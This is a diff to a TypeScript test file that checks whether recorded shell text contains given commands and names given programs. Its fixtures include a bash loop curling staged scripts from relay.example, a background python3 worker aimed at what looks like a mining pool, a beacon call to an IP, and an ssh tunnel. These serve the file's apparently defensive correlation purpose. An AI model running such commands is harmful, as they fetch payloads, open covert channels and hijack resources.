@@ -5,6 +5,7 @@ import {
   distinctive,
   isCommon,
   mayRun,
+  namesProgram,
   sameCommand,
   tellsArguments,
 } from '../../src/correlate/exec-text.ts';
@@ -68,10 +69,10 @@ it.each([
   [LONG, ['wget', '-s', 'http://x.example/1'], false],
   [LONG, ['curl', '-s', 'http://x.example/1', '-x'], false],
   [LONG, ['curl', '-s', '12 characters'.slice(0, 12)], false],
-  [LONG, ['curl', '-s', '13 characters'], true],
+  [LONG, ['curl', '-s', '13 characters'], false],
   [LONG, ['curl', '13 characters'], false],
-  [LONG.slice(0, 40), ['for', 'i', '13 characters'], false],
-  [LONG.slice(0, 41), ['for', 'i', '13 characters'], true],
+  [LONG.slice(0, 40), ['for', 'i', 'curl-seq-i-for'], false],
+  [LONG.slice(0, 41), ['for', 'i', 'curl-seq-i-for'], true],
 ])('%j contains %j: %j', (text, words, expected) => {
   expect(containsCommand(text, words)).toBe(expected);
 });
@@ -95,4 +96,24 @@ it.each<[string, Partial<Exec>, Partial<Call>, boolean]>([
   expect(sameCommand({ text: '', args: undefined, ...exec } as Exec, { truncated: false, ...call } as Call)).toBe(
     expected,
   );
+});
+
+const SCRIPT = "bash -c 'for i in 1 2; do curl -s http://relay.example/stage$i.sh; done'";
+
+it.each([
+  [SCRIPT, ['curl', '-s', 'http://relay.example/stage2.sh'], true],
+  [SCRIPT, ['bash', '-c', 'for i in 1 2; do curl -s http://relay.example/stage$i.sh; done'], true],
+  [SCRIPT, ['bash', '-c', 'nohup python3 .cache/worker pool.harbor.test 3333'], false],
+  [SCRIPT, ['curl', '-s', 'http://198.51.100.77/beacon'], false],
+] as const)('of the command %s a shell may have run %j: %j', (text, words, expected) => {
+  expect(containsCommand(text, words)).toBe(expected);
+});
+
+it.each([
+  ['nohup ssh -N relay', ['ssh', '/usr/bin/ssh'], true],
+  ['python3 run.py', ['python3.11'], true],
+  ['./a-long-name-of-a-tool x', ['a-long-name-of-'], true],
+  ['nohup ssh -N relay', ['nc'], false],
+] as const)('of the command %s, a program called %j is named: %j', (command, names, expected) => {
+  expect(namesProgram(command, names)).toBe(expected);
 });
